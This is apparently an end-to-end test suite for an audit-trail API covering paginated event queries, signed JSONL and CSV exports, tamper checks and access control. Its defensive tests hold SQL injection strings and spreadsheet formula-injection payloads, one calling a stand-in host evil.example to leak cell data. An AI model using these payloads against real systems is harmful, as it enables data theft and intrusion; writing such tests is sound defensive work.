import * as http from 'node:http';
import { DataSource } from 'typeorm';
import { AuditService, checkExport } from '@app/audit';
import { systemContext } from '@app/common';
import { RecordsApiModule } from '../apps/records-api/src/records-api.module';
import { startApp, TestApp, users } from './support/app';
import { freshDatabase } from './support/database';
import { bearer, routeFixtures, signUsers } from './support/audited-routes';

/** The auditor's API: events with cursor pagination, exports with trailer, verify, case-file history. */
describe('audit trail API (e2e)', () => {
  let t: TestApp;
  let ds: DataSource;
  let tokens: Map<string, string>;
  let n = 0;
  let db: { url: string; drop: () => Promise<void> };

  beforeAll(async () => {
    // a chain of its own: the assertions about contiguous ranges and the head need no concurrent writers
    db = await freshDatabase('audit_api');
    t = await startApp(RecordsApiModule, { env: { DATABASE_URL: db.url } });
    ds = t.app.get(DataSource);
    tokens = await signUsers(t);
  });
  afterAll(async () => {
    await t?.close();
    await db?.drop();
  });

  const as = (user: (typeof users)[keyof typeof users], path: string, id = `audit-api-${process.pid}-${++n}`) =>
    t.http().get(path).set('Authorization', bearer(tokens, user)).set('X-Request-Id', id);
  const eventsOf = (requestId: string) => ds.query('SELECT action, outcome, object_id, details FROM audit_events WHERE request_id = $1 ORDER BY seq', [requestId]);
  const raw = (res: NodeJS.ReadableStream, cb: (e: Error | null, body: string) => void) => {
    let s = '';
    res.setEncoding?.('utf8');
    res.on('data', (c: string) => (s += c));
    res.on('end', () => cb(null, s));
  };

  /** A case file of department 32 with a reopen reason that needs CSV quoting, and some reads. */
  async function busyCaseFile(reads: number): Promise<string> {
    const fx = routeFixtures(t, tokens);
    const cf = await fx.closedCaseFile();
    await t.http().post(`/api/v1/case-files/${cf.id}/reopen`).set('Authorization', bearer(tokens, users.caseworker32)).send({ reason: 'Widerspruch, "eilig"\nzweite Zeile' }).expect(200);
    for (let i = 0; i < reads; i++) await as(users.caseworker32, `/api/v1/case-files/${cf.id}`).expect(200);
    return cf.id;
  }

  it('pages through a filter with an opaque cursor, oldest or newest first, without gaps or repeats', async () => {
    const id = await busyCaseFile(5);
    const [{ count }] = await ds.query('SELECT count(*)::int AS count FROM audit_events WHERE case_file_id = $1', [id]);
    expect(count).toBe(8); // create, close, reopen, 5 reads
    for (const order of ['asc', 'desc'] as const) {
      const seen: number[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const res: { body: { items: { seq: string }[]; nextCursor: string | null } } = await as(users.auditor, `/api/v1/audit/events?caseFileId=${id}&limit=3&order=${order}${cursor ? `&cursor=${cursor}` : ''}`).expect(200);
        expect(res.body.items.length).toBeLessThanOrEqual(3);
        seen.push(...res.body.items.map((e: { seq: string }) => Number(e.seq)));
        for (const e of res.body.items) expect(e).toMatchObject({ caseFileId: id, hash: expect.stringMatching(/^[0-9a-f]{64}$/), occurredAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/) });
        cursor = res.body.nextCursor;
        pages++;
      } while (cursor);
      expect(pages).toBe(3);
      expect(seen).toHaveLength(8);
      expect(new Set(seen).size).toBe(8);
      expect(seen).toEqual([...seen].sort((a, b) => (order === 'asc' ? a - b : b - a)));
    }
    const reads = await as(users.auditor, `/api/v1/audit/events?caseFileId=${id}&action=case_file.read&actor=${users.caseworker32.sub}`).expect(200);
    expect(reads.body.items).toHaveLength(5);
    expect(reads.body.nextCursor).toBeNull();
    const reopen = await as(users.auditor, `/api/v1/audit/events?caseFileId=${id}&action=case_file.reopen`).expect(200);
    expect(reopen.body.items[0]).toMatchObject({ reason: 'Widerspruch, "eilig"\nzweite Zeile', actorSub: users.caseworker32.sub, actorDepartments: ['32'], outcome: 'success' });
    const future = await as(users.auditor, `/api/v1/audit/events?caseFileId=${id}&from=2999-01-01T00:00:00Z`).expect(200);
    expect(future.body.items).toEqual([]);
  });

  it('answers bad queries with 400 and a reason, and refuses non-auditors', async () => {
    const bad = async (query: string, field: string) => {
      const res = await as(users.auditor, `/api/v1/audit/events?${query}`).expect(400);
      expect(JSON.stringify(res.body.error)).toContain(field);
    };
    await bad('limit=5000', 'limit');
    await bad('order=sideways', 'order');
    await bad('from=yesterday', 'from');
    await bad('caseFileId=42', 'caseFileId');
    await bad('colour=red', 'colour');
    await bad('cursor=bm9wZQ', 'cursor');
    await bad(`order=asc&cursor=${Buffer.from('desc:10').toString('base64url')}`, 'cursor');
    await bad('from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', 'from');
    await as(users.auditor, '/api/v1/audit/export').expect(400);
    await as(users.auditor, '/api/v1/audit/export?format=xml').expect(400);
    await as(users.auditor, '/api/v1/audit/verify?from=soon').expect(400);
    // NUL and control characters, and times PostgreSQL cannot read, are refused before any query (were 500s)
    await bad('objectId=%00', 'objectId');
    await bad('actor=%00', 'actor');
    await bad('actor=anna%0A', 'actor');
    await bad('from=2026-W01', 'from');
    await bad('to=2026-01-01T10', 'to');
    // the export validates its filters before it starts streaming: a 400 with a reason, never a cut-off file, nothing recorded
    for (const [query, field] of [['format=csv&actor=%00', 'actor'], ['format=jsonl&actor=%00', 'actor'], ['format=csv&objectId=%00', 'objectId'], ['format=csv&from=2026-W01', 'from']]) {
      const rid = `audit-export-bad-${process.pid}-${field}-${++n}`;
      const res = await as(users.auditor, `/api/v1/audit/export?${query}`, rid).expect(400);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers['content-disposition']).toBeUndefined();
      expect(res.body.error).toMatchObject({ code: 'ValidationFailed', details: [expect.objectContaining({ field })] });
      expect(await eventsOf(rid)).toEqual([]);
    }
    const denied = `audit-denied-${process.pid}`;
    await as(users.caseworker32, '/api/v1/audit/events', denied).expect(403);
    await as(users.recordsManager, '/api/v1/audit/export?format=csv').expect(403);
    await as(users.admin, '/api/v1/audit/verify').expect(403);
    expect(await eventsOf(denied)).toEqual([expect.objectContaining({ action: 'access.denied', outcome: 'denied' })]);
  });

  it('exports JSON Lines with a trailer that lets the file be checked on its own', async () => {
    const id = await busyCaseFile(2);
    const rid = `audit-export-jsonl-${process.pid}`;
    const res = await as(users.auditor, `/api/v1/audit/export?format=jsonl&caseFileId=${id}`, rid).buffer(true).parse(raw as never).expect(200);
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="audit-\d{8}T\d{6}\.jsonl"$/);
    const text: string = res.body;
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(6); // create, close, reopen, 2 reads + trailer
    const events = lines.slice(0, -1).map((l) => JSON.parse(l));
    expect(events.map((e) => e.action)).toEqual(['case_file.create', 'case_file.close', 'case_file.reopen', 'case_file.read', 'case_file.read']);
    const { trailer } = JSON.parse(lines[5]);
    expect(trailer).toMatchObject({ format: 'jsonl', count: 5, firstSeq: events[0].seq, lastSeq: events[4].seq, firstPrevHash: events[0].prevHash, lastHash: events[4].hash, filters: { caseFileId: id } });
    expect(await eventsOf(rid)).toEqual([expect.objectContaining({ action: 'audit.export', details: { filter: { caseFileId: id }, format: 'jsonl' } })]);

    const key = t.config.audit.anchorKey;
    expect(await checkExport([text], { key })).toMatchObject({ ok: true, count: 5, signatureValid: true });
    const edited = text.replace('"case_file.close"', '"case_file.open"');
    expect(await checkExport([edited], { key })).toMatchObject({ ok: false, line: 2, reason: expect.stringMatching(/does not match its hash/) });
    const dropped = [lines[0], ...lines.slice(2)].join('\n') + '\n';
    expect(await checkExport([dropped], { key })).toMatchObject({ ok: false, reason: expect.stringMatching(/trailer says 5 events/) });
    expect(await checkExport([lines.slice(0, 5).join('\n') + '\n'])).toMatchObject({ ok: false, reason: expect.stringMatching(/no trailer/) });
    const forged = JSON.parse(lines[5]);
    forged.trailer.count = 5;
    forged.trailer.filters = { caseFileId: 'someone else' };
    expect(await checkExport([[...lines.slice(0, 5), JSON.stringify(forged)].join('\n') + '\n'], { key })).toMatchObject({ ok: false, signatureValid: false });
    // without the key the structure still checks
    expect(await checkExport([text])).toMatchObject({ ok: true, count: 5 });
  });

  it('gives the database connection back when a download is abandoned', async () => {
    const server = t.app.getHttpServer();
    if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address();
    const token = bearer(tokens, users.auditor);
    // more abandoned downloads than the pool has connections (DATABASE_POOL_SIZE)
    for (let i = 0; i < t.config.database.poolSize + 5; i++) {
      await new Promise<void>((resolve, reject) => {
        const req = http.get({ host: '127.0.0.1', port, path: '/api/v1/audit/export?format=csv', headers: { Authorization: token } }, (res) => {
          expect(res.statusCode).toBe(200);
          req.destroy(); // the auditor closes the window as soon as the download starts
          resolve();
        });
        req.on('error', (e) => (req.destroyed ? resolve() : reject(e)));
      });
    }
    const res = await as(users.auditor, '/api/v1/audit/export?format=jsonl&action=audit.export').buffer(true).parse(raw as never).expect(200);
    expect(JSON.parse((res.body as string).trimEnd().split('\n').pop()!).trailer.count).toBeGreaterThanOrEqual(t.config.database.poolSize + 5);
  });

  it('takes filter values with quotes and backslashes literally (no SQL from a filter)', async () => {
    for (const actor of ["o'reilly", "x' OR '1'='1", 'back\\slash', "\\' OR TRUE --"]) {
      const res = await as(users.auditor, `/api/v1/audit/export?format=jsonl&actor=${encodeURIComponent(actor)}`).buffer(true).parse(raw as never).expect(200);
      const lines = (res.body as string).trimEnd().split('\n');
      expect(lines).toHaveLength(1); // nobody of that name acted: the trailer alone
      expect(JSON.parse(lines[0]).trailer).toMatchObject({ count: 0, filters: { actor } });
    }
  });

  it('exports CSV (quoted cells, multi-line reasons) that checks on its own, also in small chunks', async () => {
    const id = await busyCaseFile(1);
    const res = await as(users.auditor, `/api/v1/audit/export?format=csv&caseFileId=${id}`).buffer(true).parse(raw as never).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const text: string = res.body;
    expect(text.startsWith('seq,id,occurred_at,actor_sub,')).toBe(true);
    expect(text).toContain('"Widerspruch, ""eilig""\nzweite Zeile"');
    const last = text.trimEnd().split('\n').pop()!;
    expect(last.startsWith('# ')).toBe(true);
    expect(JSON.parse(last.slice(2))).toMatchObject({ format: 'csv', count: 4 });
    const chunks = text.match(/[\s\S]{1,37}/g)!;
    expect(await checkExport(chunks, { key: t.config.audit.anchorKey })).toMatchObject({ ok: true, count: 4, signatureValid: true });
    expect(await checkExport([text.replace('zweite Zeile', 'dritte Zeile')])).toMatchObject({ ok: false, reason: expect.stringMatching(/does not match its hash/) });
  });

  it('exports an unfiltered range as a contiguous piece of the chain', async () => {
    const [{ lo, hi }] = await ds.query('SELECT (max(seq) - 20)::text AS lo, max(seq)::text AS hi FROM audit_events');
    const [{ from }] = await ds.query(`SELECT to_char(occurred_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') AS from FROM audit_events WHERE seq = $1`, [lo]);
    const res = await as(users.auditor, `/api/v1/audit/export?format=jsonl&from=${from}`).buffer(true).parse(raw as never).expect(200);
    const check = await checkExport([res.body], { key: t.config.audit.anchorKey });
    expect(check.ok).toBe(true);
    expect(check.trailer!.contiguous).toBe(true);
    expect(Number(check.trailer!.count)).toBeGreaterThanOrEqual(Number(hi) - Number(lo));
    expect(check.trailer!.lastSeq).toBe(String(Number(hi) + 1)); // up to the head, the export's own event included
  });

  it('verifies the chain, whole or in part, and records the verification with its result', async () => {
    await busyCaseFile(1);
    const rid = `audit-verify-${process.pid}`;
    // other suites append to the same chain concurrently: everything present before the call is checked
    const [{ max }] = await ds.query('SELECT max(seq)::int AS max FROM audit_events');
    const all = await as(users.auditor, '/api/v1/audit/verify', rid).expect(200);
    expect(all.body).toMatchObject({ ok: true, firstSeq: '1' });
    expect(all.body.checked).toBeGreaterThanOrEqual(max);
    expect(all.body.firstBrokenSeq).toBeUndefined();
    expect(await eventsOf(rid)).toEqual([expect.objectContaining({ action: 'audit.verify', details: expect.objectContaining({ ok: true, checked: all.body.checked }) })]);
    const part = await as(users.auditor, '/api/v1/audit/verify?from=2&to=5').expect(200);
    expect(part.body).toMatchObject({ ok: true, checked: 4, firstSeq: '2', lastSeq: '5' });
    const byTime = await as(users.auditor, `/api/v1/audit/verify?from=2000-01-01T00:00:00Z&to=${new Date().toISOString()}`).expect(200);
    expect(byTime.body.ok).toBe(true);
    expect(byTime.body.checked).toBeGreaterThan(0);
  });

  it('hashes awkward text the same way when verifying and exporting (quotes, control characters, umlauts, emoji, nested details)', async () => {
    const nasty = 'Zeile 1\nZeile 2\t"zitiert" \\ Backslash \u0001\u001f\u007f Ä ö ß € 😀 </script> \u2028';
    const ctx = { ...systemContext('awkward'), requestId: `awkward-${process.pid}` };
    await t.app.get(AuditService).recordAccess(ctx, {
      action: 'test.awkward',
      objectType: 'document',
      objectId: nasty,
      reason: nasty,
      details: { zeta: [1, 2.5, -0, 1e21, { b: nasty, a: null }], alpha: { 'ä': true, 'a"b': false, '': 'leer' }, n: 12345678901234 },
    });
    const [{ seq }] = await ds.query('SELECT seq::text AS seq FROM audit_events WHERE request_id = $1', [ctx.requestId]);
    expect((await as(users.auditor, `/api/v1/audit/verify?from=${seq}&to=${seq}`).expect(200)).body).toMatchObject({ ok: true, checked: 1 });
    for (const format of ['jsonl', 'csv']) {
      const res = await as(users.auditor, `/api/v1/audit/export?format=${format}&action=test.awkward`).buffer(true).parse(raw as never).expect(200);
      expect(await checkExport([res.body], { key: t.config.audit.anchorKey })).toMatchObject({ ok: true, count: 1, signatureValid: true });
    }
  });

  it('neutralises cells a spreadsheet would run as a formula (= + - @), and the export still checks', async () => {
    const ctx = { ...systemContext('formula'), requestId: `formula-${process.pid}` };
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klick")', '+1+2', '-2+3', '@SUM(A1:A9)', "'=bereits maskiert", '\t=tab'];
    for (const reason of hostile) {
      await t.app.get(AuditService).recordAccess(ctx, { action: 'test.formula', objectType: 'document', objectId: reason, reason, details: { n: -1 } });
    }
    const res = await as(users.auditor, '/api/v1/audit/export?format=csv&action=test.formula').buffer(true).parse(raw as never).expect(200);
    const text: string = res.body;
    const cells = text.split('\n').slice(1, -2).flatMap((line) => line.split(','));
    expect(cells.filter((c) => /^"?[=+\-@\t]/.test(c))).toEqual([]);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
    expect(text).toContain(`"''=bereits maskiert"`);
    const check = await checkExport([text], { key: t.config.audit.anchorKey });
    expect(check).toMatchObject({ ok: true, count: hostile.length, signatureValid: true });
  });

  it('shows a case file\'s history to its department, records managers and auditors only', async () => {
    const id = await busyCaseFile(1);
    const own = await as(users.caseworker32, `/api/v1/case-files/${id}/history`).expect(200);
    expect(own.body.items.map((e: { action: string }) => e.action)).toEqual(['case_file.create', 'case_file.close', 'case_file.reopen', 'case_file.read']);
    const page = await as(users.caseworker32, `/api/v1/case-files/${id}/history?limit=2`).expect(200);
    expect(page.body.items).toHaveLength(2);
    const rest = await as(users.caseworker32, `/api/v1/case-files/${id}/history?limit=2&cursor=${page.body.nextCursor}`).expect(200);
    expect(rest.body.items.map((e: { action: string }) => e.action)).toEqual(['case_file.reopen', 'case_file.read']);
    await as(users.recordsManager, `/api/v1/case-files/${id}/history`).expect(200);
    const audited = await as(users.auditor, `/api/v1/case-files/${id}/history?action=case_file.history`).expect(200);
    expect(audited.body.items.length).toBeGreaterThanOrEqual(4); // the history reads above are history themselves

    const denied = `history-denied-${process.pid}`;
    await as(users.caseworker50, `/api/v1/case-files/${id}/history`, denied).expect(404);
    expect(await eventsOf(denied)).toEqual([expect.objectContaining({ action: 'access.denied', outcome: 'denied', object_id: id })]);
    await as(users.scanOperator, `/api/v1/case-files/${id}/history`).expect(403);
    await as(users.auditor, '/api/v1/case-files/00000000-0000-4000-8000-000000000000/history').expect(404);
    await as(users.auditor, '/api/v1/case-files/not-a-uuid/history').expect(400);
  });
});
